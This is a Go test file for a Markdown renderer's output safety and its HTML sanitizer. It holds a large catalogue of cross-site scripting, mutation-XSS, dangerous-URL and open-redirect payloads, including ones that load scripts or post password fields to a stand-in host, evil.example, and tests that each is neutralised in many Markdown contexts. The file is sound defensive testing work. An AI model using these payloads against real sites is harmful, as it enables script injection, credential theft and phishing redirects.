package markdown_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// attacks are strings that have run scripts, or otherwise taken over a page, in one reader of HTML or another.
var attacks = []string{
	// script elements, in every spelling
	`<script>alert(1)</script>`, `<SCRIPT>alert(1)</SCRIPT>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script >alert(1)</script >`,
	`<script/x>alert(1)</script>`, "<script\n>alert(1)</script\n>", "<script\t src=//evil.example/x.js></script>",
	`<script src="https://evil.example/x.js">`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1)//<</script>`, "<scr\x00ipt>alert(1)</scr\x00ipt>",
	"<\x00script>alert(1)</script>",
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`,
	`&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;`, `&#x0000003cscript>alert(1)</script>`,
	`%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
	"\\<script\\>alert(1)\\</script\\>", "＜script＞alert(1)＜/script＞",
	"<ſcript>alert(1)</ſcript>", "<ſtyle>@import 'x'</ſtyle>", "<ſcrİpt>alert(1)</ſcrİpt>", `<script>alert(1)`,
	`</script><script>alert(1)</script>`, `<script type="text/plain"><!--<script>alert(1)</script>`,
	`<script xlink:href="data:,alert(1)"/>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<script async defer nonce=x>alert(1)</script>`, "\xef\xbb\xbf<script>alert(1)</script>",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\xc0\xbcscript\xc0\xbealert(1)", "\xff<script>alert(1)</script>",
	// handlers of events
	`<img src=x onerror=alert(1)>`, `<img src=x onerror="alert(1)"/>`, `<img/src=x/onerror=alert(1)>`,
	"<img src=x\nonerror=alert(1)>", `<img src=x:x onerror&#61;alert(1)>`, `<IMG SRC=x OnErRoR=alert(1)>`,
	`<img """><script>alert(1)</script>">`, `<body onload=alert(1)>`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)//`,
	`<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`,
	`<video src=x onerror=alert(1)>`, `<audio src onloadstart=alert(1)>`, `<video><source onerror=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`, `<div onpointerover="alert(1)">x</div>`,
	`<p onanimationend=alert(1) style="animation:x">x</p>`,
	`<a href=# onclick=alert(1)>x</a>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`, `<b onbeforescriptexecute=alert(1)>`, `<x onclick=alert(1)>x</x>`,
	`<x contenteditable onblur=alert(1)>x`, "<img src=x on\x00error=alert(1)>", "<img src=x onerror\x0b=alert(1)>",
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `"><img src=x onerror=alert(1)>`,
	`'><svg onload=alert(1)>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`,
	`&quot; onmouseover=&quot;alert(1)`, `&#34; onmouseover=&#34;alert(1)`, `\" onmouseover=\"alert(1)`,
	`x" autofocus onfocus="alert(1)" y="`,
	// addresses that are scripts
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)",
	"java\rscript:alert(1)", "java\x00script:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
	"\x1fjavascript:alert(1)",
	`javascript&colon;alert(1)`, `javascript&#58;alert(1)`, `javascript&#x3a;alert(1)`,
	`javascript&#x3A;alert&lpar;1&rpar;`, `&#106;avascript:alert(1)`, `&#x6A;&#x61;&#x76;&#x61;script:alert(1)`,
	`java&Tab;script:alert(1)`, `java&NewLine;script:alert(1)`, `java&#9;script:alert(1)`, `java&#x0a;script:alert(1)`,
	`java&#13;script:alert(1)`, `&#1;javascript:alert(1)`, `&#0;javascript:alert(1)`, `&#x20;javascript:alert(1)`,
	`java%0ascript:alert(1)`, `javascript%3Aalert(1)`, `java\script:alert(1)`, `java\:script:alert(1)`,
	`javascript\:alert(1)`, `javascript://example.com/%0aalert(1)`, `javascript://https://example.com/%0dalert(1)`,
	`javascript:/*https://*/alert(1)`, `vbscript:msgbox(1)`, `VBScript:msgbox(1)`, `livescript:alert(1)`,
	`mocha:alert(1)`, "\u2028javascript:alert(1)", "javascript\u200b:alert(1)", "\ufeffjavascript:alert(1)",
	"ｊavascript:alert(1)", "javaſcript:alert(1)", "javascript：alert(1)", `feed:javascript:alert(1)`,
	`view-source:javascript:alert(1)`, `jar:javascript:alert(1)!/`,
	`data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, `data:image/png;base64,x`,
	`data:image/png,<script>alert(1)</script>`, `DATA:text/html,x`, `data:,x`, `data&colon;text/html,x`,
	`blob:https://evil.example/1`, `filesystem:https://evil.example/x`, `about:blank`, `file:///etc/passwd`,
	`ws://evil.example`, `intent://x#Intent;end`, `ms-word:ofe|u|x`, `x-unknown:y`,
	// addresses that are another host
	`//evil.example`, `///evil.example`, `/\evil.example`, `\\evil.example`, `\/evil.example`, `/&#92;evil.example`,
	`/&bsol;evil.example`, `&sol;/evil.example`, "/\t/evil.example", "/&Tab;/evil.example", `https:evil.example`,
	`https:/evil.example`, `https:///evil.example`, `https:\\evil.example`, `http:///`, `https://`,
	`https://good.example@evil.example`, `https://good.example:x@evil.example/`,
	`https://good.example&commat;evil.example`, `https://good.example\@evil.example`,
	"https://good.example\u2044@evil.example",
	// elements that take over, load or frame
	`<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>`, `<object data=javascript:alert(1)>`,
	`<object data="data:text/html,<script>alert(1)</script>">`, `<embed src=javascript:alert(1)>`,
	`<embed src="//evil.example/x.swf" allowscriptaccess=always>`, `<applet code=x>`, `<frameset onload=alert(1)>`,
	`<frame src=javascript:alert(1)>`, `<base href="https://evil.example/">`, `<base target=_top>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv=Set-Cookie content=x>`,
	`<meta charset=utf-7>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example>`,
	`<link rel=preload href=//evil.example>`, `<title>x</title><script>alert(1)</script>`,
	`<html manifest=//evil.example>`, `<head profile=x>`, `<portal src=//evil.example>`,
	`<template><script>alert(1)</script></template>`, `<slot name=x>`, `<dialog open>x</dialog>`, `<canvas id=x>`,
	`<isindex action=javascript:alert(1) type=image>`, `<layer src=//evil.example>`, `<bgsound src=javascript:alert(1)>`,
	`<xml src=x>`, `<?xml version="1.0"?><x/>`, `<?php echo 1 ?>`, `<!DOCTYPE html [<!ENTITY x "y">]>&x;`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<!--><script>alert(1)</script>-->`, `<!--- --!><script>alert(1)</script>-->`,
	`<comment><img src="</comment><img src=x onerror=alert(1)//">`, `<plaintext>`, `<xmp><script>alert(1)</script></xmp>`,
	`<listing>&lt;script></listing>`, `<image src=x onerror=alert(1)>`, `<bdo dir=rtl>x</bdo>`,
	// forms
	`<form action=javascript:alert(1)><input type=submit>`,
	`<form action=//evil.example><input name=password type=password>`,
	`<button formaction=javascript:alert(1)>x</button>`, `<input type=image src=x onerror=alert(1)>`,
	`<input type=hidden name=csrf>`, `<form id=x></form><button form=x formaction=javascript:alert(1)>`,
	`<label for=x>x</label>`, `<select><option><style></option></select><img src=x onerror=alert(1)></style>`,
	`<textarea></textarea><script>alert(1)</script>`, `<math><input type="text" onfocus=alert(1) autofocus>`,
	// styles
	`<style>@import "//evil.example/x.css"</style>`, `<style>body{background:url(javascript:alert(1))}</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`, `<p style="width:expression(alert(1))">x</p>`,
	`<p style="behavior:url(x.htc)">x</p>`, `<p style="-moz-binding:url(x.xml#x)">x</p>`,
	`<p style="position:fixed;inset:0">x</p>`, `<style></style><script>alert(1)</script>`,
	`<style><img src="</style><img src=x onerror=alert(1)>">`, `{style="x:expression(alert(1))"}`, `{onclick=alert(1)}`,
	`{#x .y onclick="alert(1)"}`,
	// other namespaces, and what changes when it is read again
	`<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:alert(1)>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x'/>#x"/></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math href=javascript:alert(1)>x</math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi><table><mglyph><style><math><img src=x onerror=alert(1)></table>`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg><title><style><img src=x onerror=alert(1)></style></title></svg>`,
	`<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>"></desc>`,
	`<table><a href=javascript:alert(1)>x</table>`, `<p><table><p>x</p><td>y</table>`,
	`<a><b></a><script>alert(1)</script></b>`, `<listing><img src=x onerror=alert(1)></listing>`,
	"<img alt=\"``onerror=alert(1)\">", "x`` onmouseover=alert(1)",
	`<option><style></option></select><b><img src=x onerror=alert(1)></style></option>`,
	// names that stand in for others
	`<a id=location href=//evil.example>`, `<form name=document id=body>`, `<img name=cookie>`,
	`<a id=x><a id=x name=y href=//evil.example>`, `location`, `__proto__`, `document.cookie`, `constructor`, `fn:1`,
	`fnref:1`, `md-`,
	// Markdown's own
	`[x](javascript:alert(1))`, `[x](<javascript:alert(1)>)`, "[x](java\nscript:alert(1))",
	`[x](javascript:alert(1) "t")`, `![x](javascript:alert(1))`, `![x](data:image/svg+xml,<svg/onload=alert(1)>)`,
	`<javascript:alert(1)>`, `<JAVASCRIPT:alert(1)>`, `<data:text/html,x>`, `<vbscript:x>`,
	"[x]: javascript:alert(1)\n\n[x]", "[x]: <javascript:alert(1)> 'y'\n\n[x][] ![x]", "[x]: data:text/html,y\n\n[z][x]",
	`[x](https://a.example "y\" onmouseover=\"alert(1)")`, `[x](https://a.example 'y" onmouseover="alert(1)')`,
	`[x](https://a.example (y" onmouseover="alert(1)))`, `![x" onerror="alert(1)](https://a.example/x.png)`,
	`![x](https://a.example/x.png"onerror="alert(1))`, `![x](https://a.example/" onerror=alert(1))`,
	`![<img src=x onerror=alert(1)>](https://a.example/x.png)`, `[<script>alert(1)</script>](https://a.example)`,
	`[![x](javascript:alert(1))](javascript:alert(2))`, `[[x](javascript:alert(1))](https://a.example)`,
	`[<https://a.example>](https://b.example)`, `[www.a.example](javascript:alert(1))`,
	"[x[^1]](https://a.example)\n\n[^1]: [y](javascript:alert(1))",
	"[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>", "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x",
	"a[^1] b[^1] c[^1]\n\n[^1]: <script>alert(1)</script>\n\n# fn:1\n\n# fnref:1", "```js\" onclick=\"alert(1)\nx\n```",
	"```\"><script>alert(1)</script>\nx\n```", "~~~<img/src=x/onerror=alert(1)>\n~~~", "``` x class=y style=z\n```",
	"`<script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```",
	"    </code></pre><script>alert(1)</script>",
	"| <script>alert(1)</script> | x |\n|-|-|\n| [y](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
	"|x|\n|:-:\"onclick=alert(1)|\n", "# <a id=x onclick=alert(1)>\n## \"onclick=\"alert(1)",
	"# location\n# location\n# __proto__\n# constructor\n# 漢字\n# !!!\n#", "# x {#location onclick=alert(1)}",
	"x\n==={onclick=alert(1)}", "- [x] <script>alert(1)</script>\n- [ ](javascript:alert(1))",
	"> <script>\n> alert(1)\n> </script>", "1. <script>\n   alert(1)", "999999999999. x", "*<script>alert(1)</script>*",
	"~~<img src=x onerror=alert(1)>~~", `https://a.example/"onmouseover="alert(1)`,
	`https://a.example/<script>alert(1)</script>`, `www.a.example/'onclick='alert(1)`, `a@b.example"onclick="alert(1)`,
	`<a@b.example"onclick="alert(1)>`, `<mailto:a@b.example?subject=<script>>`,
	`[x](mailto:a@b.example"onclick="alert(1))`, `[x](tel:+1"onclick="alert(1))`, `[x](#"onclick="alert(1))`,
	`[x](?javascript:alert(1))`, `[x](./javascript:alert(1))`, `[x](attachment:../../etc/passwd)`,
	`[x](attachment:1"onclick=alert(1))`,
	`![x](attachment:1)![x](attachment:2)![x](attachment:3)![x](attachment:4)![x](attachment:5)![x](attachment:6)`,
	`[x](attachment:7)[x](attachment:8)[x](attachment:9)[x](attachment:a)[x](attachment:b)[x](attachment:c)[x](attachment:d)`,
	`[x](kb:KB0000001)[x](kb:KB0000002#"onclick=alert(1))[x](kb:KB0000003#a:b)[x](kb:javascript)`,
	`![x](kb:KB0000001)![x](/files/../logout)![x](logout)![x](//evil.example/x.png)![x](http://a.example/x.png)`,
	"[x]\\(javascript:alert(1))", "[\\]](javascript:alert(1))", "<!-- a --><b>-->",
	"<!-- --><!-- <script>alert(1)</script>", "a<!-- b --!> <script>alert(1)</script>",
}

// places are where an attack is tried: on its own, and in all that Markdown makes an element or an attribute of.
var places = []string{
	"%s", "x %s y", "[x](%s)", "[x](<%s>)", "![x](%s)", "![x](<%s>)", "![%s](https://a.example/x.png)",
	"[%s](https://a.example)", "[x](https://a.example \"%s\")", "[x](https://a.example '%s')",
	"![x](https://a.example/x.png (%s))",
	"[x](https://a.example/%s)", "[x](https://a.example/?q=%s)", "[x](#%s)", "[x](mailto:%s)", "[x](attachment:%s)",
	"[x](kb:KB0000001#%s)", "<%s>", "<https://%s>", "https://%s", "[x]: %s\n\n[x] ![x]",
	"[x]: https://a.example \"%s\"\n\n[x]", "[%s]: https://a.example\n\n[%[1]s]",
	"# %s", "%s\n===", "> %s", "- %s", "- [x] %s", "| %s | y |\n|:-|-:|\n| %[1]s | [z](%[1]s) |", "```%s\nx\n```",
	"```\n%s\n```", "    %s", "`%s`", "**%s**", "~~%s~~", "x[^%s]\n\n[^%[1]s]: %[1]s", "x[^1]\n\n[^1]: %s",
	"<div>%s</div>", "<div title=\"%s\">", "<!-- %s -->", "a\\%s", "&%s;",
}

func TestHostile(t *testing.T) {
	require.GreaterOrEqual(t, len(attacks), 300)
	all := renderers(t)
	for i, attack := range attacks {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			requireStaysSafe(t, all, attack)
			for _, place := range places {
				requireSafe(t, all[:2], fmt.Sprintf(strings.ReplaceAll(place, "%s", "%[1]s"), attack))
			}
		})
	}
}

// No layer trusts the others: the page is safe before the sanitizer reads it, but for the spelling of languages, ...
func TestWhatIsWrittenIsSafeWithoutTheSanitizer(t *testing.T) {
	for _, r := range renderers(t) {
		for _, attack := range attacks {
			for _, place := range places {
				body := fmt.Sprintf(strings.ReplaceAll(place, "%s", "%[1]s"), attack)
				page, err := r.Written(body)
				require.NoError(t, err)
				require.Empty(t, unsafe(page, "attribute class of code"), "of %q:\n%s", body, page)
			}
		}
	}
}

// ... and the sanitizer makes any page safe, whatever wrote it. It does not add what links and boxes ought to have.
func TestTheSanitizerIsSafeByItself(t *testing.T) {
	pages := append(attacks[:len(attacks):len(attacks)], `<a href="javascript:x" id="md-x">y</a>`,
		`<h1 id="location" class="x" style="y">z</h1>`, `<li id="md-x">`, `<sup id="md-fn:1">`,
		`<code class="x language-y">z</code>`,
		`<a href="//x" rel="opener" target="_top" class="y" role="button" ping="//z" download>y</a>`,
		`<img src="data:image/png;base64,x">`,
		`<img src="https://x" srcset="//y 2x" usemap="#z" referrerpolicy="unsafe-url" loading="eager">`,
		`<img src="//x">`, `<div class="modal" role="alert">x</div>`,
		`<td align="justify" colspan="9999" background="//x">y</td>`, `<ol start="-1" type="a">`, `<input type="text" value="x">`, `<input type="checkbox" name="x" form="y" checked="z">`, `<blockquote cite="javascript:x">`, `<del cite="javascript:x">`)
	for _, r := range renderers(t) {
		for _, page := range pages {
			clean := r.Sanitized(page)
			require.Empty(t, unsafe(clean, "rel", "own src", "id", "field", "it changes"), "of %q:\n%s", page, clean)
		}
	}
}

func TestAnAddressOfASchemeAndNoMore(t *testing.T) {
	page, err := renderers(t)[0].Written("[a](mailto: 'b') [c](tel:) [d](https:// 'e')")
	require.NoError(t, err)
	assert.Equal(t, "<p>a c d</p>\n", page)
}

// Two attacks side by side may make a third of what each leaves.
func TestHostilePairs(t *testing.T) {
	if testing.Short() {
		t.Skip("long")
	}
	all := renderers(t)
	for i, one := range attacks {
		for _, between := range []string{"", "\n\n"} {
			requireStaysSafe(t, all, one+between+attacks[(i*7+13)%len(attacks)])
		}
	}
}

// The judge of these tests is of use only if it finds what it is to find.
func TestTheJudgeFindsFaults(t *testing.T) {
	for _, page := range []string{
		`<script>x</script>`, `<p onclick="x">y</p>`, `<a href="javascript:x">y</a>`, "<a href=\"java\tscript:x\">y</a>",
		`<a href="//x">y</a>`, `<a href="/\x">y</a>`, `<a href="https:x">y</a>`, `<a href="">y</a>`, `<a>x</a>`,
		`<a href="https://x">y</a>`, `<a href="/x" target="_blank">y</a>`,
		`<img src="/x">`, `<img src="http://x">`, `<img>`, `<svg></svg>`, `<p style="x">y</p>`,
		`<h1 id="location">x</h1>`, `<h1 id="md-x">x</h1><h2 id="md-x">y</h2>`, `<input type="text" disabled>`,
		`<input type="checkbox">`, `<!-- x -->`, `<code class="x">y</code>`, `<iframe></iframe>`,
		`<a href="https://u@x" rel="noopener noreferrer nofollow ugc">y</a>`,
	} {
		assert.NotEmpty(t, unsafe(page), page)
	}
	assert.Empty(t, unsafe(`<h1 id="md-x">x</h1><p><a href="/x">y</a> <a href="https://x" rel="noopener noreferrer nofollow ugc">z</a></p>`))
}
